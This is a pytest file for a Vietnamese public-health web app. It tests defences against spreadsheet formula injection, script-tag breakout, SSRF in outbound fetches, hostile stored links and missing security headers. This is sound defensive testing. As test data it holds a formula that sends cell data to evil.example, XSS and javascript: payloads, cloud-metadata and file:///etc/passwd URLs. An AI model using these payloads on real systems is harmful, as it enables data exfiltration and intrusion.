"""Boundaries of what comes in and goes out: spreadsheet exports, JSON inside HTML, stored links, outbound fetches,
security headers (issue 23)."""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import re
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from loa.errors import UserError
from loa.formats import json_for_script
from loa.spreadsheets import FORMULA_STARTS, safe_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+84 912", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_at_the_start_of_a_cell_becomes_text(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Bình thường = an toàn") == "Bình thường = an toàn" and safe_cell(-3) == -3


SPREADSHEET_PATHS = {"/answers/export.{fmt}", "/plans/{plan_id}/tasks.csv", "/plans/{plan_id}/tasks.xlsx"}


def _cells(data: bytes, path: str) -> list:
    if path.endswith(".xlsx"):
        return [c for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) for c in row]
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def test_every_spreadsheet_export_neutralises_formulas(app, login, db, settings, people):
    from loa.answers import service as answers
    from loa.plans import service as plans
    from loa.plans.parser import parse_bytes
    from tests.plans.encoders import seed_text

    offered = {p for p in app.state.get_paths if re.search(r"(\.csv|\.xlsx|export[^/]*)$", p)}
    assert offered == SPREADSHEET_PATHS, "a new spreadsheet export: build it with loa.spreadsheets and list it here"
    for value in FORMULAS[:4]:
        answers.create_entry(db, {"question": value + " hỏi?", "answer": value, "source": value, "tags": [value]})
    text = seed_text().replace("- Chủ động, cung cấp kịp thời", "- " + FORMULAS[0] + " cung cấp kịp thời")
    plan = plans.import_plan(db, settings, parse_bytes(text.encode()), people["coordinator"])
    db.commit()
    viewer = login("viewer")
    for path in (
        "/answers/export.csv",
        "/answers/export.xlsx",
        f"/plans/{plan.id}/tasks.csv",
        f"/plans/{plan.id}/tasks.xlsx",
    ):
        r = viewer.get(path)
        assert r.status_code == 200, path
        cells = [c for c in _cells(r.content, path) if isinstance(c, str)]
        assert any(c.startswith("'=HYPERLINK") for c in cells), path
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path
        if path.startswith("/answers"):
            assert {"'+84 912", "'-1+2", "'@SUM(A1)"} <= set(cells), path


HOSTILE_STRINGS = ["<!--<script", "</script><script>alert(1)</script>", "]]>", "&lt;", "\u2028\u2029", "<!-- -->"]


@pytest.mark.parametrize("value", HOSTILE_STRINGS)
def test_json_for_script_stays_one_script_element_and_reads_back(value):
    class Scripts(HTMLParser):
        def __init__(self):
            super().__init__()
            self.found = []

        def handle_data(self, data):
            self.found.append(data)

    encoded = json_for_script({"text": value, "list": [value]})
    assert not set("<>&\u2028\u2029") & set(encoded)
    assert json.loads(encoded) == {"text": value, "list": [value]}
    parser = Scripts()
    parser.feed(f'<script type="application/ld+json">{encoded}</script><p>after</p>')
    assert parser.found == [encoded, "after"]


# ---- outbound requests (SSRF) -------------------------------------------------------------------------------


@pytest.fixture
def web(monkeypatch):
    """A loopback HTTP server: ``web.routes[path] = (status, headers, body)``; ``web.hits`` lists what it served.
    Host names ending in ``.test`` resolve to the addresses in ``web.dns`` (a stand-in DNS server)."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from types import SimpleNamespace

    from loa import outbound

    state = SimpleNamespace(routes={}, hits=[], dns={})

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            state.hits.append((self.headers.get("Host"), self.path))
            status, headers, body = state.routes.get(self.path, (404, {}, b"not found"))
            self.send_response(status)
            for k, v in headers.items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    state.port = server.server_address[1]
    state.base = f"http://127.0.0.1:{state.port}"
    real = outbound.resolve

    def resolve(host, port):
        if host.endswith(".test"):
            return [ipaddress.ip_address(a) for a in state.dns.get(host, [])] or real("no-such-host.invalid", port)
        return real(host, port)

    monkeypatch.setattr(outbound, "resolve", resolve)
    monkeypatch.delenv("LOA_FETCH_ALLOW_HOSTS", raising=False)
    yield state
    server.shutdown()
    server.server_close()


def _fetch(url: str):
    from loa import outbound

    return outbound.get(url, timeout=5, max_bytes=1 << 20)


@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1",
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "100.64.0.1",
        "169.254.169.254",
        "0.0.0.0",
        "224.0.0.1",
        "255.255.255.255",
        "240.0.0.1",
        "::1",
        "fe80::1",
        "fd00:ec2::254",
        "::ffff:127.0.0.1",
        "2002:7f00:1::",
        "ff02::1",
    ],
)
def test_inside_addresses_are_not_public(address):
    from loa.outbound import is_public

    assert not is_public(ipaddress.ip_address(address))
    assert is_public(ipaddress.ip_address("8.8.8.8")) and is_public(ipaddress.ip_address("2001:4860:4860::8888"))


def test_a_real_loopback_server_is_refused_with_the_same_message_as_a_closed_port(web):
    web.routes["/api/v1/me"] = (401, {"Content-Type": "application/json"}, b'{"detail": "login"}')
    with pytest.raises(UserError) as open_port:
        _fetch(web.base + "/api/v1/me")
    with pytest.raises(UserError) as closed_port:
        _fetch("http://127.0.0.1:1/")
    with pytest.raises(UserError) as no_host:
        _fetch("http://nowhere.test/")
    assert web.hits == []  # nothing was even asked
    assert open_port.value.message == closed_port.value.message == no_host.value.message
    assert "401" not in open_port.value.message and "127.0.0.1" not in open_port.value.message_en


@pytest.mark.parametrize("inside", ["127.0.0.1", "10.0.0.7", "169.254.169.254", "::1"])
def test_a_public_looking_host_resolving_inside_is_refused(web, inside):
    web.dns["news.test"] = [inside]
    with pytest.raises(UserError, match="Không lấy được"):
        _fetch(f"http://news.test:{web.port}/feed.xml")
    web.dns["mixed.test"] = ["93.184.216.34", inside]  # one inside address among public ones is enough
    with pytest.raises(UserError, match="Không lấy được"):
        _fetch(f"http://mixed.test:{web.port}/feed.xml")
    assert web.hits == []


def test_a_redirect_to_the_inside_is_refused_at_its_hop(web, monkeypatch):
    """The first host is allowed (standing for a public redirector); where it sends the request is checked anew."""
    web.dns["redirector.test"] = ["127.0.0.1"]
    web.dns["internal.test"] = ["10.0.0.7"]
    monkeypatch.setenv("LOA_FETCH_ALLOW_HOSTS", f"redirector.test:{web.port}")
    web.routes["/to-loopback"] = (302, {"Location": f"http://127.0.0.1:{web.port}/secret"}, b"")
    web.routes["/to-internal"] = (301, {"Location": "http://internal.test/admin"}, b"")
    web.routes["/to-metadata"] = (307, {"Location": "http://169.254.169.254/latest/meta-data/"}, b"")
    web.routes["/secret"] = (200, {"Content-Type": "text/plain"}, b"secret")
    for path in ("/to-loopback", "/to-internal", "/to-metadata"):
        with pytest.raises(UserError, match="Không lấy được"):
            _fetch(f"http://redirector.test:{web.port}{path}")
    assert [p for _h, p in web.hits] == ["/to-loopback", "/to-internal", "/to-metadata"]  # /secret never asked


def test_the_allow_setting_lets_a_named_host_through_and_redirects_stay_bounded(web, monkeypatch):
    from loa import outbound

    web.dns["feeds.test"] = ["127.0.0.1"]
    web.routes["/feed.xml"] = (200, {"Content-Type": "application/rss+xml"}, b"<rss/>")
    web.routes["/moved"] = (302, {"Location": "/feed.xml"}, b"")
    web.routes["/loop"] = (302, {"Location": "/loop"}, b"")
    with pytest.raises(UserError):
        _fetch(f"http://feeds.test:{web.port}/feed.xml")
    monkeypatch.setenv("LOA_FETCH_ALLOW_HOSTS", f" other.test , feeds.test:{web.port}")
    assert _fetch(f"http://feeds.test:{web.port}/moved") == (b"<rss/>", "application/rss+xml")
    assert web.hits[-1] == (f"feeds.test:{web.port}", "/feed.xml")  # the name asked for, at the address checked
    with pytest.raises(UserError):
        _fetch(f"http://feeds.test:{web.port}/loop")
    assert len([p for _h, p in web.hits if p == "/loop"]) == outbound.OutboundSettings().max_redirects + 1
    with pytest.raises(UserError):  # the allowed name does not open the address itself
        _fetch(f"{web.base}/feed.xml")
    for url in ("file:///etc/passwd", "gopher://feeds.test/", "http:///x", "javascript:alert(1)"):
        with pytest.raises(UserError):
            _fetch(url)


# ---- stored links ---------------------------------------------------------------------------------------------

HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/hoi-dap",
    "http://",
    "https:///path",
    "http://exa mple.vn",
    "http://example.vn:99999/",
    "ftp://example.vn/file",
    "https://example.vn/" + "a" * 1000,
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_only_absolute_http_links_are_links(url):
    from loa.links import http_url, is_http_url

    assert not is_http_url(url)
    assert is_http_url("https://moh.gov.vn/tin-tuc?id=1#a") and is_http_url("HTTP://WHO.INT")
    if url.strip():
        with pytest.raises(UserError) as err:
            http_url(url)
        assert err.value.status == 422 and "http://" in err.value.message


def test_every_stored_link_is_checked(db, login, people, settings):
    from loa.answers import service as answers
    from loa.answers import transfer
    from loa.answers.models import FaqEntry
    from loa.claims import service as claims
    from loa.listening import feeds
    from loa.listening import service as listening

    editor = login("editor")
    claim = claims.create_claim(db, people["editor"], text="Uống nước muối chữa khỏi COVID")
    entry = {"question": "Vắc xin có an toàn không?", "answer": "Có, đã được cấp phép.", "source": "Bộ Y tế"}
    for url in ("javascript:alert(1)", "data:text/html,x"):
        r = editor.post("/api/v1/answers/entries", json={**entry, "source_url": url})
        assert r.status_code == 422 and "http" in r.json()["detail"]
        with pytest.raises(UserError):
            answers.create_entry(db, {**entry, "source_url": url})
        csv_data = f"question,answer,source,source_url\n{entry['question']},{entry['answer']},Bộ Y tế,{url}\n"
        with pytest.raises(UserError, match="Dòng 2"):
            transfer.import_records(db, transfer.read_csv(csv_data.encode()))
        with pytest.raises(UserError, match="http"):
            claims.add_source(db, claim, people["editor"], publisher="Bộ Y tế", url=url)
        with pytest.raises(UserError, match="http"):
            listening.create_source(db, name="Nguồn", url=url)
    assert db.query(FaqEntry).count() == 0 and claim.sources == []
    made = answers.create_entry(db, {**entry, "source_url": " https://moh.gov.vn/a "})
    assert made.source_url == "https://moh.gov.vn/a"
    rss = (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>t</title>'
        "<item><title>Tin một</title><link>javascript:alert(1)</link><description>Nội dung một</description></item>"
        "<item><title>Tin hai</title><link>https://baotravinh.vn/2</link><description>Nội dung hai</description></item>"
        "</channel></rss>"
    ).encode()
    assert [p.url for p in feeds.parse_feed(rss, "application/rss+xml")] == ["", "https://baotravinh.vn/2"]


# ---- security headers and the Content-Security-Policy -------------------------------------------------------------


def _policy(response) -> dict[str, str]:
    return dict((d.strip().split(" ", 1) + [""])[:2] for d in response.headers["content-security-policy"].split(";"))


def test_every_response_carries_the_security_headers(client):
    for method, path in [
        ("GET", "/"),
        ("GET", "/login"),
        ("GET", "/hoi-dap"),
        ("GET", "/kiem-chung"),
        ("GET", "/api/v1/openapi.json"),
        ("GET", "/khong-co-trang-nay"),
        ("GET", "/static/loa.css"),
        ("GET", "/static/loa.js"),
        ("GET", "/api/v1/me"),
        ("POST", "/api/v1/answers/ask"),
    ]:
        r = client.request(method, path, json={} if method == "POST" else None)
        policy = _policy(r)
        assert policy["script-src"] == "'self'" and policy["style-src"] == "'self'", path
        assert policy["frame-ancestors"] == "'none'" and r.headers["x-frame-options"] == "DENY", path
        assert r.headers["x-content-type-options"] == "nosniff", path
        assert r.headers["referrer-policy"] == "strict-origin-when-cross-origin", path
        assert "strict-transport-security" not in r.headers, path
    for r in (client.get("/hoi-dap/widget"), client.post("/hoi-dap?widget=1", data={"question": "?"})):
        assert _policy(r)["frame-ancestors"] == "*" and _policy(r)["script-src"] == "'self'"
        assert "x-frame-options" not in r.headers and r.headers["x-content-type-options"] == "nosniff"
    docs = client.get("/api/v1/docs")
    nonce = re.search(r'<script nonce="([^"]+)">', docs.text).group(1)
    assert f"'nonce-{nonce}'" in _policy(docs)["script-src"] and "<script>" not in docs.text


def test_the_error_page_of_a_crash_carries_the_security_headers_too(settings):
    from fastapi.testclient import TestClient

    from loa.web.app import create_app

    app = create_app(settings)

    @app.get("/boom")
    def boom():
        raise RuntimeError("a bug")

    r = TestClient(app, raise_server_exceptions=False).get("/boom")
    assert r.status_code == 500 and "Hệ thống gặp lỗi" in r.text
    assert _policy(r)["script-src"] == "'self'" and r.headers["x-frame-options"] == "DENY"
    assert r.headers["x-content-type-options"] == "nosniff"


def test_hsts_when_cookies_are_secure(settings):
    from fastapi.testclient import TestClient

    from loa.web.app import create_app

    with TestClient(create_app(settings.model_copy(update={"secure_cookies": True}), migrate=False)) as c:
        assert c.get("/login").headers["strict-transport-security"].startswith("max-age=")


def test_no_template_holds_an_inline_script_handler_or_style():
    from pathlib import Path

    from loa import modules

    offenders = []
    for folder in modules.template_folders():
        for path in Path(folder).rglob("*.html"):
            if path.name == "report_standalone.html":  # the CLI's stand-alone file, never served
                continue
            html = path.read_text(encoding="utf-8")
            html = re.sub(r"<pre><code>.*?</code></pre>", "", html, flags=re.S)  # shown as text (the widget snippet)
            for m in re.finditer(r"<script\b[^>]*>", html):
                if "src=" not in m.group(0) and "application/ld+json" not in m.group(0):
                    offenders.append(f"{path.name}: {m.group(0)}")
            offenders += [f"{path.name}: {m.group(0)}" for m in re.finditer(r"\son[a-z]+=|javascript:|<style\b", html)]
    assert offenders == []


def test_key_pages_run_under_the_policy_without_a_violation(live_server, page, people, db):
    """Every violation Chromium reports (a blocked inline script, handler or style) fails the test; the behaviour
    moved out of the pages still works (a select that submits, the widget's question sent by HTMX)."""
    from loa.answers import transfer
    from tests.conftest import browser_login

    transfer.import_starter(db)
    db.commit()
    violations = []
    page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
    page.goto(live_server + "/hoi-dap/widget")
    page.fill("textarea[name=question]", "Tiêm vắc xin xong bị sốt có sao không?")
    with page.expect_response(lambda r: r.request.method == "POST" and "/hoi-dap" in r.url) as asked:
        page.get_by_test_id("ask").click()
    assert asked.value.request.headers.get("hx-request") == "true" and asked.value.status == 200
    assert page.url.endswith("/hoi-dap/widget")  # answered in place, by HTMX
    for path in ("/", "/hoi-dap", "/kiem-chung", "/khong-co-trang-nay"):
        page.goto(live_server + path)
    browser_login(page, live_server, people["coordinator"].username)
    for path in ("/", "/plans", "/listening", "/claims"):
        page.goto(live_server + path)
    page.goto(live_server + "/answers")
    page.select_option("select[name=status]", "approved")
    page.wait_for_url("**/answers?status=approved")
    assert violations == []
